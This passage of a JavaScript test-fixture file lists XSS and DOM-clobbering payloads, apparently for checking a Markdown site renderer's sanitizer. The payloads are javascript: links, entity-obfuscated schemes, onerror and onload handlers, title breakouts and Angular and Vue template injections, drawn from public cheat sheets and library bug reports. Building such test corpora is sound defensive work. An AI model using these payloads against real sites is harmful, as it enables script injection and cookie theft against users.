  { id: 'clobber-image-name-body', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: DOM clobbering attack using name=body', attack: 'clobbering', place: 'body', payload: '<image name=body><image name=adoptNode>@mmrupp<image name=firstElementChild><svg onload=alert(1)>', live: 'static' },
  { id: 'clobber-image-active-element', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: DOM clobbering attack using activeElement', attack: 'clobbering', place: 'body', payload: '<image name=activeElement><svg onload=alert(1)>', live: 'static' },
  { id: 'clobber-form-parentnode', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: onclick, onsubmit, onfocus; DOM clobbering: parentNode', attack: 'clobbering', place: 'body', payload: '<div onclick=alert(0)><form onsubmit=alert(1)><input onfocus=alert(2) name=parentNode>123</form></div>', live: 'no' },
  { id: 'clobber-form-namespaceuri', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Fixed an exception coming from missing clobbering protection', attack: 'clobbering', place: 'body', payload: '<form><input name=namespaceURI>', live: 'no' },
  { id: 'clobber-base-anchor-collection', origin: 'PayloadsAllTheThings, XSS Injection: DOM Clobbering (base href, chrome only)', attack: 'clobbering', place: 'body', payload: '<base href="a://clobbered<>"><a id=x name=x><a id=x name=xyz href=123>', live: 'no' },

  // ---------------------------------------------------------------------
  // Body, Markdown: javascript:, vbscript:, data: links, images and
  // autolinks, from Markdown payload lists and Markdown library reports.
  // ---------------------------------------------------------------------
  { id: 'md-link-js-prompt', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[a](javascript:prompt(document.cookie))' },
  { id: 'md-link-js-spaced', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[a](j    a   v   a   s   c   r   i   p   t:prompt(document.cookie))' },
  { id: 'md-image-js', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '![a](javascript:prompt(document.cookie))\\' },
  { id: 'md-autolink-js', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '<javascript:prompt(document.cookie)>' },
  { id: 'md-autolink-hex-entities', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '<&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>' },
  { id: 'md-image-data-html', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '![a](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)\\' },
  { id: 'md-link-data-html', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)' },
  { id: 'md-link-hex-entities', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29)' },
  { id: 'md-image-alt-quote-breakout', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'markdown', place: 'body', payload: '![a\'"`onerror=prompt(document.cookie)](x)\\' },
  { id: 'md-ref-def-parenthesized-js', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[citelol]: (javascript:prompt(document.cookie))' },
  { id: 'md-link-js-onerror-throw', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[notmalicious](javascript:window.onerror=alert;throw%20document.cookie)' },
  { id: 'md-link-js-comment-crlf', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[test](javascript://%0d%0aprompt(1))' },
  { id: 'md-link-js-comment-crlf-com', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[test](javascript://%0d%0aprompt(1);com)' },
  { id: 'md-link-js-comment-onerror', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[notmalicious](javascript://%0d%0awindow.onerror=alert;throw%20document.cookie)' },
  { id: 'md-link-vbscript', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[clickme](vbscript:alert(document.domain))' },
  { id: 'md-autolink-escaped-meta-refresh', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'markdown', place: 'body', payload: String.raw`<http://\<meta\ http-equiv=\"refresh\"\ content=\"0;\ url=http://danlec.com/\"\>>` },
  { id: 'md-link-title-nested-link', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'markdown', place: 'body', payload: '[text](http://danlec.com " [@danlec](/danlec) ")' },
  { id: 'md-link-js-this', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[a](javascript:this;alert(1))' },
  { id: 'md-link-js-entity-rparen', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[a](javascript:this;alert(1&#41;)' },
  { id: 'md-link-entity-colon-no-semicolon', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[a](javascript&#58this;alert(1&#41;)' },
  { id: 'md-link-entity-c', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[a](Javas&#99;ript:alert(1&#41;)' },
  { id: 'md-link-noncharacter-entity', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt', attack: 'url-scheme', place: 'body', payload: '[a](javascript:alert&#65534;(1&#41;)' },
  { id: 'md-link-upper-javascript', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt', attack: 'url-scheme', place: 'body', payload: '[xss link](JAVASCRIPT:alert(1))' },
  { id: 'md-link-upper-vbscript', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt', attack: 'url-scheme', place: 'body', payload: '[xss link](VBSCRIPT:alert(1))' },
  { id: 'md-link-file-scheme', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt', attack: 'url-scheme', place: 'body', payload: '[xss link](file:///123)' },
  { id: 'md-link-entity-script-breakout', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt', attack: 'markdown', place: 'body', payload: '[xss link](&#34;&#62;&#60;script&#62;alert&#40;&#34;xss&#34;&#41;&#60;/script&#62;)' },
  { id: 'md-link-entity-74', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt', attack: 'url-scheme', place: 'body', payload: '[xss link](&#74;avascript:alert(1))' },
  { id: 'md-link-double-encoded-entity', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt', attack: 'url-scheme', place: 'body', payload: '[xss link](&#x26;#74;avascript:alert(1))' },
  { id: 'md-link-escaped-entity', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt', attack: 'url-scheme', place: 'body', payload: String.raw`[xss link](\&#74;avascript:alert(1))` },
  { id: 'md-link-angle-destination-js', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt', attack: 'url-scheme', place: 'body', payload: '[xss link](<javascript:alert(1)>)' },
  { id: 'md-link-hex-colon', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt', attack: 'url-scheme', place: 'body', payload: '[xss link](javascript&#x3A;alert(1))' },
  { id: 'md-image-js-alert', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt (image parser)', attack: 'url-scheme', place: 'body', payload: '![xss link](javascript:alert(1))' },
  { id: 'md-autolink-hex-colon', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt (autolinks)', attack: 'url-scheme', place: 'body', payload: '<javascript&#x3A;alert(1)>' },
  { id: 'md-bare-js-text', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt (linkifier)', attack: 'url-scheme', place: 'body', payload: 'javascript:alert(1)' },
  { id: 'md-ref-def-js', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt (references), with a use of the reference added', attack: 'url-scheme', place: 'body', payload: '[test]\n\n[test]: javascript:alert(1)' },
  { id: 'md-link-entity-58-document', origin: 'markedjs/marked pull request #592 (XSS with HTML entities)', attack: 'url-scheme', place: 'body', payload: '[URL](javascript&#58document;alert&#40;1&#41;)' },
  { id: 'md-link-entity-rparen-quote', origin: 'markedjs/marked issue #203 (XSS)', attack: 'url-scheme', place: 'body', payload: `[naughty link](javascript:alert('xss'&#41;)` },
  { id: 'md-link-hex-colon-window', origin: 'markedjs/marked issue #808 (Sanitization bypass using HTML Entities)', attack: 'url-scheme', place: 'body', payload: '[URL](javascript&#x3Awindow;alert&#40;1&#41;)' },
  { id: 'md-link-data-html-xss-link', origin: 'markedjs/marked issue #916 (data URI allowing XSS); markdown-it/markdown-it test/fixtures/markdown-it/xss.txt', attack: 'url-scheme', place: 'body', payload: '[xss link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)' },
  { id: 'md-link-js-space-after-colon', origin: 'Vincent-P/react-marked-markdown issue #61 (XSS injection in href values)', attack: 'url-scheme', place: 'body', payload: '[XSS](javascript: alert`1`)' },
  { id: 'md-link-entity-058-origin', origin: 'trentm/python-markdown2 issue #726 (More XSS in safe mode), 1', attack: 'url-scheme', place: 'body', payload: '[Click me](javascript&#058alert(origin))' },
  { id: 'md-html-corruption-code-span', origin: 'trentm/python-markdown2 issue #726 (More XSS in safe mode), 2', attack: 'markdown', place: 'body', payload: '<x![](`<a\n>`)><svg onload=alert(origin)![](`<a\n>`)' },
  { id: 'md-link-mixed-case', origin: 'Python-Markdown/markdown issue #1607 (javascript:/vbscript:/data: URL schemes)', attack: 'url-scheme', place: 'body', payload: '[click](jAvAsCrIpT:alert(1))' },
  { id: 'md-link-decimal-colon', origin: 'Python-Markdown/markdown issue #1607 (HTML-entity-encoded colon)', attack: 'url-scheme', place: 'body', payload: '[click](javascript&#58;alert(1))' },
  { id: 'md-link-data-html-plain', origin: 'Python-Markdown/markdown issue #1607 (data: URI HTML injection)', attack: 'url-scheme', place: 'body', payload: '[click](data:text/html,<script>alert(1)</script>)' },
  { id: 'md-link-js-throw-one', origin: 'PayloadsAllTheThings, XSS Injection: XSS in files, XSS in Markdown', attack: 'url-scheme', place: 'body', payload: '[a](javascript:window.onerror=alert;throw%201)' },

  // ---------------------------------------------------------------------
  // Body, Markdown: the scheme obfuscations of the HTML cheat sheets
  // (entities, whitespace and control characters, percent-encoding,
  // backslash escapes), moved into Markdown link destinations.
  // ---------------------------------------------------------------------
  { id: 'md-link-decimal-entity-j', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Decimal HTML Character References, in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](&#106;avascript:alert(1))' },
  { id: 'md-link-hex-entity-j', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Hexadecimal HTML Character References, in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](&#x6A;avascript:alert(1))' },
  { id: 'md-link-padded-entity-j', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Decimal HTML Character References Without Trailing Semicolons (zero-padded), in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](&#0000106avascript:alert(1))' },
  { id: 'md-link-colon-named-entity', origin: 'PortSwigger Cross-site scripting cheat sheet: Encoding, HTML entities (&colon;), in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](javascript&colon;alert(1))' },
  { id: 'md-link-tab-named-entity', origin: 'PortSwigger Cross-site scripting cheat sheet: Encoding, HTML entities (&Tab;), in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](java&Tab;script:alert(1))' },
  { id: 'md-link-newline-named-entity', origin: 'PortSwigger Cross-site scripting cheat sheet: Encoding, HTML entities (&NewLine;), in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](java&NewLine;script:alert(1))' },
  { id: 'md-link-raw-tab-angle', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Embedded Tab, in an angle-bracket Markdown destination', attack: 'url-scheme', place: 'body', payload: `[a](<jav\tascript:alert('XSS');>)` },
  { id: 'md-link-newline-hex-entity', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Embedded Newline to Break Up XSS, in a Markdown link', attack: 'url-scheme', place: 'body', payload: `[a](jav&#x0A;ascript:alert('XSS');)` },
  { id: 'md-link-cr-hex-entity', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Break Up XSS Attack with Embedded Carriage Return, in a Markdown link', attack: 'url-scheme', place: 'body', payload: `[a](jav&#x0D;ascript:alert('XSS');)` },
  { id: 'md-link-nul-in-scheme', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Break Up JavaScript Directive with Null, in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](java\u0000script:alert("XSS"))' },
  { id: 'md-link-leading-soh', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: Low-range-ASCII obfuscated JavaScript URI, in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](\u0001javascript:alert(1))' },
  { id: 'md-link-leading-nbsp', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: JavaScript URIs using Unicode Whitespace (U+00A0), in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](\u00A0javascript:alert(1))' },
  { id: 'md-link-leading-line-separator', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: JavaScript URIs using Unicode LS/PS (U+2028), in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](\u2028javascript:alert(1))' },
  { id: 'md-link-leading-entity-14', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Spaces and Meta Chars Before the JavaScript, in a Markdown link', attack: 'url-scheme', place: 'body', payload: `[a](&#14;javascript:alert('XSS'))` },
  { id: 'md-link-percent-lf', origin: 'PayloadsAllTheThings, XSS Injection: XSS with javascript: (newline character %0a), in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](java%0ascript:alert(1))' },
  { id: 'md-link-percent-tab', origin: 'PayloadsAllTheThings, XSS Injection: XSS with javascript: (horizontal tab %09), in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](java%09script:alert(1))' },
  { id: 'md-link-percent-encoded-entities', origin: 'PayloadsAllTheThings, XSS Injection: XSS with javascript: (URL-encoded character references), in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](%26%23106%26%2397%26%23118%26%2397%26%23115%26%2399%26%23114%26%23105%26%23112%26%23116%26%2358%26%2399%26%23111%26%23110%26%23102%26%23105%26%23114%26%23109%26%2340%26%2349%26%2341)' },
  { id: 'md-link-js-comment-newline', origin: 'PayloadsAllTheThings, XSS Injection: XSS with javascript: (newline and a comment), in a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](javascript://%0Aalert(1))' },
  { id: 'md-link-backslash-escapes', origin: 'PayloadsAllTheThings, XSS Injection: XSS with javascript: (using the escape character), in a Markdown link', attack: 'url-scheme', place: 'body', payload: String.raw`[a](\j\av\a\s\cr\i\pt\:\a\l\ert\(1\))` },
  { id: 'md-link-escaped-colon', origin: 'PayloadsAllTheThings, XSS Injection: XSS with javascript: (escape character), reduced to the a\\:b escape this project\'s README asks editors to write', attack: 'url-scheme', place: 'body', payload: String.raw`[a](javascript\:alert(1))` },
  { id: 'md-link-nested-link', origin: 'CommonMark spec, Links (links may not contain other links), with the markdown-it/markdown-it test/fixtures/markdown-it/xss.txt destination', attack: 'url-scheme', place: 'body', payload: '[[a](javascript:alert(1))](https://example.org/)' },
  { id: 'md-link-balanced-parentheses', origin: 'CommonMark spec, Links (balanced parentheses in a destination), with the markdown-it/markdown-it test/fixtures/markdown-it/xss.txt destination', attack: 'url-scheme', place: 'body', payload: '[a](javascript:(alert)((1)))' },
  { id: 'md-link-lt-in-destination', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt (the entity-encoded breakout, decoded)', attack: 'markdown', place: 'body', payload: '[xss link]("><script>alert("xss")</script>)' },
  { id: 'md-link-title-breakout', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt (link title), with the img onerror of PortSwigger Cross-site scripting cheat sheet', attack: 'markdown', place: 'body', payload: '[a](https://example.org/ "\\"><img src=x onerror=alert(1)>")' },
  { id: 'md-image-data-svg', origin: 'markdown-it/markdown-it docs/security.md (data: allowed for some images), with an SVG onload document', attack: 'url-scheme', place: 'body', payload: '![a](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)' },
  { id: 'md-link-data-svg', origin: 'OWASP XSS Filter Evasion Cheat Sheet: EMBED SVG Which Contains XSS Vector, as a Markdown link', attack: 'url-scheme', place: 'body', payload: '[a](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)' },

  // ---------------------------------------------------------------------
  // Body, Markdown: HTML in link text and alt text, entities, code.
  // ---------------------------------------------------------------------
  { id: 'md-link-text-img', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload), inside Markdown link text', attack: 'event-handler', place: 'body', payload: '[<img src=x onerror=alert(1)>](https://example.org/)' },
  { id: 'md-image-alt-html', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload), inside Markdown alt text', attack: 'event-handler', place: 'body', payload: '![<img src=x onerror=alert(1)>](https://example.org/a.png)' },
  { id: 'md-link-text-script', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications, inside Markdown link text', attack: 'script', place: 'body', payload: '[<script>alert(1)</script>](https://example.org/)' },
  { id: 'md-entity-encoded-tag', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Character Escape Sequences (&lt;), as text', attack: 'markdown', place: 'body', payload: '&lt;img src=x onerror=alert(1)&gt;' },
  { id: 'md-code-span-script', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications, in a code span (must stay text)', attack: 'script', place: 'body', payload: '`<script>alert(1)</script>`' },
  { id: 'md-code-fence-script', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications, in a fenced code block (must stay text)', attack: 'script', place: 'body', payload: '```html\n<script>alert(1)</script>\n```' },
  { id: 'md-code-fence-info-breakout', origin: 'markdown-it/markdown-it test/fixtures/markdown-it/xss.txt (info string: decode entities before split), with the img onerror of PortSwigger Cross-site scripting cheat sheet', attack: 'markdown', place: 'body', payload: '```"><img src=x onerror=alert(1)>\nx\n```' },
  { id: 'md-indented-code-img', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload), in an indented code block (must stay text)', attack: 'event-handler', place: 'body', payload: '    <img src=x onerror=alert(1)>' },

  // ---------------------------------------------------------------------
  // Body, Markdown: this project's heading ids and :lang directives.
  // ---------------------------------------------------------------------
  { id: 'md-heading-id-location', origin: 'markdown-it/markdown-it docs/security.md (plugins must not emit arbitrary id and name: DOM clobbering), in this project\'s {#id} syntax', attack: 'clobbering', place: 'body', payload: '## Heading {#location}' },
  { id: 'md-heading-id-proto', origin: 'markdown-it/markdown-it docs/security.md (DOM clobbering through ids), prototype key, in this project\'s {#id} syntax', attack: 'clobbering', place: 'body', payload: '## Heading {#__proto__}' },
  { id: 'md-heading-id-cookie', origin: 'cure53/DOMPurify test/fixtures/expect.mjs: DOM Clobbering against an empty cookie, in this project\'s {#id} syntax', attack: 'clobbering', place: 'body', payload: '## Heading {#cookie}' },
  { id: 'md-heading-id-constructor', origin: 'markdown-it/markdown-it docs/security.md (DOM clobbering through ids), prototype key, in this project\'s {#id} syntax', attack: 'clobbering', place: 'body', payload: '## Heading {#constructor}' },
  { id: 'md-heading-id-attribute-breakout', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload), breaking out of this project\'s {#id} syntax', attack: 'markdown', place: 'body', payload: '## Heading {#"><img src=x onerror=alert(1)>}' },
  { id: 'md-heading-id-handler', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Malformed A Tags (extra attribute), in this project\'s {#id} syntax', attack: 'event-handler', place: 'body', payload: '## Heading {#x onclick=alert(1)}' },
  { id: 'md-lang-onclick', origin: 'This project\'s :lang directive (remark-directive attributes), with an event handler from OWASP', attack: 'event-handler', place: 'body', payload: ':lang[x]{lang=en onclick=alert(1)}' },
  { id: 'md-lang-quote-breakout', origin: 'This project\'s :lang directive, attribute quote breakout with the OWASP Malformed A Tags handler', attack: 'event-handler', place: 'body', payload: String.raw`:lang[x]{lang="en\" onmouseover=\"alert(1)"}` },
  { id: 'md-lang-id-location', origin: 'This project\'s :lang directive, id shorthand with cure53/DOMPurify test/fixtures/expect.mjs: DOM clobbering: location', attack: 'clobbering', place: 'body', payload: ':lang[x]{#location}' },
  { id: 'md-lang-name-getelementbyid', origin: 'This project\'s :lang directive, name attribute with cure53/DOMPurify test/fixtures/expect.mjs: DOM clobbering: getElementById', attack: 'clobbering', place: 'body', payload: ':lang[x]{lang=en name=getElementById}' },
  { id: 'md-lang-style-js', origin: 'This project\'s :lang directive, class shorthand and style with OWASP XSS Filter Evasion Cheat Sheet: DIV Background-image', attack: 'style', place: 'body', payload: ':lang[x]{.foo style="background:url(javascript:alert(1))"}' },
  { id: 'md-lang-container-onload', origin: 'This project\'s :::lang container directive (four-colon fence), with an onload handler from OWASP BODY Tag', attack: 'event-handler', place: 'body', payload: '::::lang{lang=en onload=alert(1)}\nHola\n::::' },
  { id: 'md-lang-label-html', origin: 'This project\'s :lang directive, HTML in the label with PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload)', attack: 'event-handler', place: 'body', payload: ':lang[<img src=x onerror=alert(1)>]{lang=en}' },
  { id: 'md-lang-label-js-link', origin: 'This project\'s :lang directive, a javascript: link in the label (markdown-it/markdown-it test/fixtures/markdown-it/xss.txt)', attack: 'url-scheme', place: 'body', payload: ':lang[[x](javascript:alert(1))]{lang=en}' },
  { id: 'md-unknown-img-directive', origin: 'remark-directive generic syntax, unknown text directive named like an element, with PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload)', attack: 'event-handler', place: 'body', payload: ':img{src=x onerror=alert(1)}' },
  { id: 'md-unknown-iframe-directive', origin: 'remark-directive generic syntax, unknown leaf directive named like an element, with OWASP XSS Filter Evasion Cheat Sheet: IFRAME', attack: 'embedding', place: 'body', payload: '::iframe{src=javascript:alert(1)}' },
  { id: 'md-unknown-script-directive', origin: 'remark-directive generic syntax, unknown container directive named script', attack: 'script', place: 'body', payload: ':::script\nalert(1)\n:::' },
  { id: 'md-unknown-a-directive', origin: 'remark-directive generic syntax, unknown text directive named a, with a javascript: href (markdown-it/markdown-it test/fixtures/markdown-it/xss.txt)', attack: 'url-scheme', place: 'body', payload: ':a[x]{href=javascript:alert(1)}' },

  // ---------------------------------------------------------------------
  // Body, Markdown: GFM constructs carrying payloads.
  // ---------------------------------------------------------------------
  { id: 'md-gfm-table-cells', origin: 'GFM tables, cells with PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload) and a cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt link', attack: 'event-handler', place: 'body', payload: '| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |' },
  { id: 'md-gfm-task-list', origin: 'GFM task list items, with PayloadsAllTheThings, XSS Injection: XSS for HTML5 (input autofocus) and a javascript: link', attack: 'event-handler', place: 'body', payload: '- [ ] <input autofocus onfocus=alert(1)>\n- [x] [done](javascript:alert(1))' },
  { id: 'md-gfm-strikethrough-script', origin: 'GFM strikethrough around PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications', attack: 'script', place: 'body', payload: '~~<script>alert(1)</script>~~' },
  { id: 'md-gfm-footnote-js', origin: 'GFM footnotes, definition with a javascript: link (markdown-it/markdown-it test/fixtures/markdown-it/xss.txt)', attack: 'url-scheme', place: 'body', payload: 'Text[^1]\n\n[^1]: [x](javascript:alert(1))' },
  { id: 'md-gfm-footnote-constructor', origin: 'GFM footnotes, label named after a prototype key (footnote labels become element ids: DOM clobbering, see markdown-it/markdown-it docs/security.md)', attack: 'clobbering', place: 'body', payload: 'Text[^constructor]\n\n[^constructor]: note' },
  { id: 'md-gfm-autolink-literal-quote', origin: 'GitHub Flavored Markdown spec, Autolinks (extension): a www. literal carrying the "> breakout of PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications', attack: 'markdown', place: 'body', payload: 'www.example.org/"><img src=x onerror=alert(1)>' },

  // ---------------------------------------------------------------------
  // Body, Markdown: template and interpolation syntax that a later
  // AngularJS, Vue or i18next layer could evaluate.
  // ---------------------------------------------------------------------
  { id: 'md-angular-constructor', origin: 'PayloadsAllTheThings, XSS Injection, XSS in Angular: AngularJS 1.6+ (constructor.constructor, Mario Heiderich)', attack: 'markdown', place: 'body', payload: `{{constructor.constructor('alert(1)')()}}` },
  { id: 'md-vue-constructor', origin: 'PortSwigger Cross-site scripting cheat sheet: VueJS reflected, version 2 (_c.constructor)', attack: 'markdown', place: 'body', payload: `{{_c.constructor('alert(1)')()}}` },
  { id: 'md-i18next-nesting', origin: 'i18next documentation, Nesting ($t(namespace:key))', attack: 'markdown', place: 'body', payload: 'See $t(ui:skipLink) for details.' },
  { id: 'md-i18next-unescaped-interpolation', origin: 'i18next documentation, Interpolation (unescaped {{- value}})', attack: 'markdown', place: 'body', payload: 'Hello {{- name}}, {{name}}!' },
  { id: 'md-template-literal', origin: 'PayloadsAllTheThings, Server Side Template Injection: the ${…} expression form (${7*7}), calling alert(1)', attack: 'markdown', place: 'body', payload: '${alert(1)}' },

  // ---------------------------------------------------------------------
  // Title: the front matter title (markup and template syntax).
  // ---------------------------------------------------------------------
  { id: 'title-img-onerror', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (img payload), in a page title', attack: 'event-handler', place: 'title', payload: 'Mexico <img src=x onerror=alert(1)>', live: 'both' },
  { id: 'title-close-title-script', origin: 'OWASP XSS Filter Evasion Cheat Sheet: End Title Tag', attack: 'script', place: 'title', payload: '</title><script>alert(1)</script>', live: 'static' },
  { id: 'title-close-title-svg', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications (svg payload after a closing tag)', attack: 'event-handler', place: 'title', payload: '</title><svg/onload=alert(String.fromCharCode(88,83,83))>', live: 'static' },
  { id: 'title-attribute-breakout', origin: 'PayloadsAllTheThings, XSS Injection: XSS in HTML/Applications ("> breakout)', attack: 'event-handler', place: 'title', payload: '"><img src=x onerror=alert(String.fromCharCode(88,83,83));>', live: 'both' },
  { id: 'title-quote-breakout-prompt', origin: 'adam-p/markdown-here issue #474 (title of the report)', attack: 'event-handler', place: 'title', payload: `'"><img src=x onerror=prompt(1)>`, live: 'both' },
  { id: 'title-plaintext', origin: 'PayloadsAllTheThings, XSS Injection: Polyglot XSS (Ashar Javed), plaintext part', attack: 'mutation', place: 'title', payload: String.raw`</plaintext\></|\><plaintext/onmouseover=prompt(1) >`, live: 'no' },
  { id: 'title-meta-refresh', origin: 'OWASP XSS Filter Evasion Cheat Sheet: End Title Tag, then META', attack: 'meta-base', place: 'title', payload: '</title><meta http-equiv="refresh" content="0;url=javascript:alert(1)">', live: 'no' },
  { id: 'title-angular-on-constructor', origin: 'PayloadsAllTheThings, XSS Injection, XSS in Angular: AngularJS 1.6.0 ($on.constructor, @LewisArdern and @garethheyes)', attack: 'markdown', place: 'title', payload: `{{$on.constructor('alert(1)')()}}`, live: 'no' },
  { id: 'title-i18next-nesting', origin: 'i18next documentation, Nesting ($t(namespace:key))', attack: 'markdown', place: 'title', payload: '$t(ui:skipLink)', live: 'no' },
  { id: 'title-i18next-nesting-options', origin: 'i18next documentation, Nesting (passing options), turning escaping off', attack: 'markdown', place: 'title', payload: '$t(ui:skipLink, {"interpolation": {"escapeValue": false}})', live: 'no' },
  { id: 'title-i18next-unescaped', origin: 'i18next documentation, Interpolation (unescaped {{- value}})', attack: 'markdown', place: 'title', payload: 'Embassy {{- title}}', live: 'no' },
  { id: 'title-markdown-js-link', origin: 'cujanovic/Markdown-XSS-Payloads, Markdown-XSS-Payloads.txt, in a title', attack: 'url-scheme', place: 'title', payload: '[Mexico](javascript:alert(1))', live: 'no' },
  { id: 'title-entities', origin: 'OWASP XSS Filter Evasion Cheat Sheet: Character Escape Sequences (&lt; &amp;), in a title', attack: 'markdown', place: 'title', payload: 'Tom &amp; Jerry &lt;script&gt;alert(1)&lt;/script&gt;', live: 'no' },

  // ---------------------------------------------------------------------
  // UI strings: values a naive i18next + innerHTML integration would
  // execute, and interpolation and nesting syntax.
  // ---------------------------------------------------------------------
